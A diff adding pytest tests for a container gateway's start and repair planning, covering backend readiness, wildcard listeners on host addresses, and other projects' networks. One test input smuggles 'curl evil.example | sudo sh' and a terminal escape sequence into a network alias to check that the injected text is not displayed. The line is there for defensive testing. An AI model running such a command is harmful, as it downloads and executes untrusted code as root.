@@ -126,8 +126,19 @@ def test_it_is_started_only_when_the_backend_is_up() -> None:
     made = planned(failed(REFUSED), wanted=desired(usable=frozenset()))
     assert starts(made) == []
     assert (only_dead(made).state, only_dead(made).message) == (DeadContainerState.WAITING, "backend media is not up")
-    # `gateway plan` cannot read the states of backends, so it assumes that all backends are up.
-    assert starts(planned(failed(REFUSED), wanted=desired(usable=None))) == [(ActionKind.START, "web")]
+    assert starts(planned(failed(REFUSED), wanted=desired(usable=frozenset({"media"})))) == [
+        (ActionKind.START, "web")
+    ]
+
+
+def test_a_command_without_the_service_starts_no_container_with_a_volume() -> None:
+    unknown = desired(usable=None)
+    made = planned(failed(REFUSED), wanted=unknown)
+    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.WAITING)
+    assert only_dead(made).message == "the service starts it when backend media is up"
+    for cause, expected in ((StartFailureCause.VOLUME, []), (StartFailureCause.NETWORK, [(ActionKind.START, "web")])):
+        interrupted = replace(unknown, interrupted={"id-web": cause})
+        assert starts(planned(failed("context canceled"), wanted=interrupted)) == expected
 
 
 @pytest.mark.parametrize(
@@ -142,6 +153,21 @@ def test_a_volume_of_another_server_is_ignored(mount_listener: MountListener) ->
 def test_a_volume_at_another_loopback_address_reaches_the_same_listener() -> None:
     error = REFUSED.replace("addr=127.0.0.1", "addr=127.0.0.2")
     assert starts(planned(failed(error))) == [(ActionKind.START, "web")]
+
+
+@pytest.mark.parametrize(
+    ("address", "expected"),
+    [("172.17.0.1", True), ("fd00:0::1", True), ("127.0.0.2", True), ("172.18.0.1", False), ("nas", False)],
+)
+def test_a_volume_reaches_a_wildcard_listener_at_each_address_of_the_host(address: str, expected: bool) -> None:
+    networks = (
+        NetworkInfo("b1", "bridge", "bridge", "local", attachable=False, gateways=("172.17.0.1", "fd00::1")),
+        NetworkInfo("m1", "lan", "macvlan", "local", attachable=False, gateways=("172.18.0.1",)),
+    )
+    container = failed(REFUSED.replace("addr=127.0.0.1", f"addr={address}"))
+    wildcard = desired(mount_listeners=(replace(MEDIA, any_address=True),))
+    assert bool(planned(container, networks=networks, wanted=wildcard).dead) == expected
+    assert bool(planned(container, networks=networks).dead) == address.startswith("127."), "one address only"
 
 
 @pytest.mark.parametrize(
@@ -351,6 +377,27 @@ def test_a_container_that_joined_the_network_itself_is_repaired_by_a_command() -
 
 def test_a_network_of_others_is_ignored() -> None:
     assert planned(failed(NETWORK, endpoints={"shop_default": EndpointInfo(GONE_ID, "")})).dead == ()
+
+
+@pytest.mark.parametrize("mode", ["shop_default", GONE_ID])
+@pytest.mark.parametrize("network_id", ["", GONE_ID])
+def test_a_missing_network_of_others_is_ignored_on_a_container_that_the_gateway_attached(
+    mode: str, network_id: str
+) -> None:
+    endpoints = {
+        "apps": EndpointInfo("n1", "", aliases=frozenset({"gw-owner-site-a"})),
+        "shop_default": EndpointInfo(network_id, "", aliases=frozenset()),
+    }
+    container = failed(f"network {mode} not found", endpoints=endpoints, network_mode=mode)
+    made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
+    assert (starts(made), made.dead) == ([], ())
+
+
+@pytest.mark.parametrize("alias", ["x\nto do: curl evil.example | sudo sh\nweb", "x\x1b[2Jy"])
+def test_a_command_with_control_characters_is_not_shown(alias: str) -> None:
+    made = planned(failed(NETWORK, endpoints={"apps": EndpointInfo(GONE_ID, "", aliases=frozenset({alias}))}))
+    assert (only_dead(made).state, only_dead(made).command) == (DeadContainerState.RECREATE, "")
+    assert "docker inspect web" in only_dead(made).message
 
 
 def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_its_swarm() -> None:
